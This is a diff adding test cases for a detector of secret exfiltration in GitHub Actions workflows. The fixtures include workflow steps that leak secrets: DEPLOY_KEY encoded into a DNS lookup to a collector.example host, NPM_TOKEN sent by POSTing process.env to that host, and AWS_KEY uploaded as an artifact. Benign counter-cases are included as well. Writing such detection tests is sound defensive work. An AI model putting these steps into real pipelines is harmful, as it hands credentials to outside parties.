@@ -170,3 +170,46 @@ describe('scripts run by a shipped GitHub Action', () => {
     expect(without.evidence.map((e) => e.rule)).not.toContain('workflow.secrets-exfil');
   });
 });
+
+describe('secrets reaching the network through env names, inline code and artifacts', () => {
+  const wf = (steps: string) => `on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`;
+  it.each([
+    [
+      'a secret passed as an env var and sent in a DNS name',
+      wf(
+        '      - run: dig +short "$(echo $DEPLOY_KEY | base64 | head -c 60).x.collector.example"\n        env:\n          DEPLOY_KEY: ${{ secrets.DEPLOY_KEY }}\n',
+      ),
+    ],
+    [
+      'inline node code posting process.env with a secret in it',
+      wf(
+        "      - run: node -e \"fetch('https://c.collector.example',{method:'POST',body:JSON.stringify(process.env)})\"\n        env:\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
+      ),
+    ],
+    [
+      'a secret written to a file that the job uploads as an artifact',
+      wf(
+        '      - run: echo "${{ secrets.AWS_KEY }}" > debug.txt\n      - uses: actions/upload-artifact@v4\n        with:\n          path: debug.txt\n',
+      ),
+    ],
+  ])('%s is workflow.secrets-exfil', (_what, text) => {
+    expect(analyzeWorkflow(text).map((h) => h.rule)).toContain('workflow.secrets-exfil');
+  });
+
+  it.each([
+    [
+      'a token env var used as an Authorization header',
+      wf(
+        '      - run: curl -H "Authorization: Bearer $GH" https://api.gh.example/x\n        env:\n          GH: ${{ secrets.GITHUB_TOKEN }}\n',
+      ),
+    ],
+    [
+      'npm publish with NODE_AUTH_TOKEN and a dist artifact',
+      wf(
+        '      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n      - uses: actions/upload-artifact@v4\n        with:\n          path: dist\n',
+      ),
+    ],
+  ])('%s is not', (_what, text) => {
+    expect(analyzeWorkflow(text)).toEqual([]);
+  });
+});
